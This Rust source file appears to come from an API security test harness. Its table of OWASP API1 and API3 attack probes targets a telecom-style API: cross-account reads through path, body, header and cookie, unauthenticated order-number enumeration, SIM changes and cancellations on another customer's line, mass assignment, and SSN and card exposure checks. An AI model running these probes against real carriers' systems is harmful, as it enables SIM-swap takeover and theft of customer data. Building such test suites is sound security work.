//! API1 (broken object level authorization) and API3 (broken object property level authorization).

use serde_json::json;

use crate::client::{Answer, Ask};
use crate::table::{Attack, Played};
use crate::target::{Person, Target};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        owasp: "API1",
        name: "another account in the path",
        how: "`GET /v1/accounts/{other}` with one's own session",
        play: |target| {
            let (victim, token) = victim_and_token(target);
            let path = format!("/v1/accounts/{}", victim.account);
            shows(&victim, &target.ask(&Ask::get(&path).by(&token)))
        },
    },
    Attack {
        owasp: "API1",
        name: "another account in the body",
        how: "`\"account\": other` in a SIM change",
        play: |target| {
            let (victim, attacker) = (target.person(), target.person());
            let token = target.sign_in_with_second_factor(&attacker);
            let body =
                json!({ "account": victim.account, "line": attacker.line, "iccid": "8901410000000000990" });
            let answer = target.ask(&Ask::post("/v1/sim-changes", body.to_string()).by(&token));
            Played::of(answer.is_success(), &answer)
        },
    },
    Attack {
        owasp: "API1",
        name: "another account in a header",
        how: "`X-Account-Id: other` on one's own account",
        play: |target| {
            let (victim, token) = victim_and_token(target);
            let ask = Ask::get("/v1/account").by(&token).with("X-Account-Id", victim.account.as_str());
            shows(&victim, &target.ask(&ask))
        },
    },
    Attack {
        owasp: "API1",
        name: "another account in a cookie",
        how: "`Cookie: account=other` on one's own account",
        play: |target| {
            let (victim, token) = victim_and_token(target);
            let cookie = format!("account={}", victim.account);
            shows(&victim, &target.ask(&Ask::get("/v1/account").by(&token).with("Cookie", cookie)))
        },
    },
    Attack {
        owasp: "API1",
        name: "orders counted up, without a sign-in",
        how: "the 20 numbers around a known order's (the order site of DA 24-481)",
        play: |target| {
            let known = target.person();
            let answers: Vec<_> = neighbours(&known.order)
                .map(|order| target.ask(&Ask::get(&format!("/v1/orders/{order}"))))
                .collect();
            let shown = answers.iter().filter(|answer| answer.status == 200).count();
            Played::said(shown > 0, format!("{shown} of {} orders shown", answers.len()))
        },
    },
    Attack {
        owasp: "API1",
        name: "another customer's order, its reference known",
        how: "`GET /v1/orders/{other}`, beside one that is none",
        play: |target| {
            let (victim, token) = victim_and_token(target);
            let of = |order: &str| target.ask(&Ask::get(&format!("/v1/orders/{order}")).by(&token));
            let (others, none) = (of(&victim.order), of(&"0".repeat(victim.order.len())));
            let is_the_same = (others.status, others.headers.len(), &others.body)
                == (none.status, none.headers.len(), &none.body);
            let how = if is_the_same { ", as for one that is none" } else { ", with its data" };
            Played::said(!is_the_same || others.is_success(), format!("{}{how}", others.status))
        },
    },
    Attack {
        owasp: "API1",
        name: "another customer's line gets another SIM",
        how: "one's own session and second factor, the victim's line",
        play: |target| {
            let (victim, attacker) = (target.person(), target.person());
            let token = target.sign_in_with_second_factor(&attacker);
            let answer = target.change_sim(&victim, &token);
            Played::of(answer.is_success(), &answer)
        },
    },
    Attack {
        owasp: "API1",
        name: "another customer's change is stopped",
        how: "`DELETE /v1/sim-changes/{other}`",
        play: |target| {
            let (victim, attacker) = (target.person(), target.person());
            let change = target.change_sim(&victim, &target.sign_in_with_second_factor(&victim));
            let path = format!("/v1/sim-changes/{}", change.text("change").unwrap());
            let answer = target.ask(&Ask::delete(&path).by(&target.sign_in(&attacker)));
            Played::of(answer.is_success(), &answer)
        },
    },
    Attack {
        owasp: "API3",
        name: "more than the page shows",
        how: "one's own account, read as the app reads it",
        play: |target| {
            let answer = target.ask(&Ask::get("/v1/account").by(&target.sign_in(&target.person())));
            Played::said(answer.body.contains("987-65"), format!("{}, {}", answer.status, secrets(&answer)))
        },
    },
    Attack {
        owasp: "API3",
        name: "`?fields=`",
        how: "`GET /v1/account?fields=name,ssn`",
        play: |target| {
            let token = target.sign_in(&target.person());
            let answer = target.ask(&Ask::get("/v1/account?fields=name,ssn").by(&token));
            Played::said(answer.body.contains("987-65"), format!("{}, {}", answer.status, secrets(&answer)))
        },
    },
    Attack {
        owasp: "API3",
        name: "`?expand=`",
        how: "`GET /v1/account?expand=card`",
        play: |target| {
            let token = target.sign_in(&target.person());
            let answer = target.ask(&Ask::get("/v1/account?expand=card").by(&token));
            Played::said(answer.body.contains("4111"), format!("{}, {}", answer.status, secrets(&answer)))
        },
    },
    Attack {
        owasp: "API3",
        name: "mass assignment",
        how: "`\"state\": \"confirmed\"` in a SIM change that has to wait",
        play: |target| {
            let person = target.person();
            let token = target.sign_in_with_second_factor(&person);
            let body = json!({ "line": person.line, "iccid": "8901410000000000990", "state": "confirmed" });
            let answer = target.ask(&Ask::post("/v1/sim-changes", body.to_string()).by(&token));
            Played::of(answer.text("state").as_deref() == Some("confirmed"), &answer)
        },
    },
    Attack {
        owasp: "API3",
        name: "a call to a covered hotline",
        how: "one's own calls, read over a shoulder (47 CFR 64.6408)",
        play: |target| {
            let answer = target.ask(&Ask::get("/v1/calls").by(&target.sign_in(&target.person())));
            let is_shown = answer.body.contains("8005550199");
            let how = if is_shown { "the hotline among them" } else { "without the hotline" };
            Played::said(is_shown, format!("{}, {how}", answer.status))
        },
    },
];

fn victim_and_token(target: &Target) -> (Person, String) {
    let (victim, attacker) = (target.person(), target.person());
    (victim, target.sign_in(&attacker))
}

/// Whether the victim's name is in an answer.
fn shows(victim: &Person, answer: &Answer) -> Played {
    let is_shown = answer.body.contains(&victim.name);
    let how = match (is_shown, answer.is_success()) {
        (true, _) => ", the other's data",
        (false, true) => ", one's own data",
        (false, false) => "",
    };
    Played::said(is_shown, format!("{}{how}", answer.status))
}

fn secrets(answer: &Answer) -> &'static str {
    let is_there = |text: &str| answer.body.contains(text);
    if is_there("987-65") || is_there("4111") { "with SSN and card" } else { "without SSN and card" }
}

/// What somebody who counts would try: decimal where it is decimal, else the last digits.
fn neighbours(order: &str) -> impl Iterator<Item = String> {
    let (front, digits) = order.split_at(order.len() - 4);
    let radix = if order.len() > 10 { 16 } else { 10 };
    let at = i64::from_str_radix(digits, radix).unwrap();
    (-10..=10).filter(|step| *step != 0).map(move |step: i64| {
        let near = (at + step).rem_euclid(radix.pow(4).into());
        if radix == 16 { format!("{front}{near:04x}") } else { format!("{front}{near:04}") }
    })
}
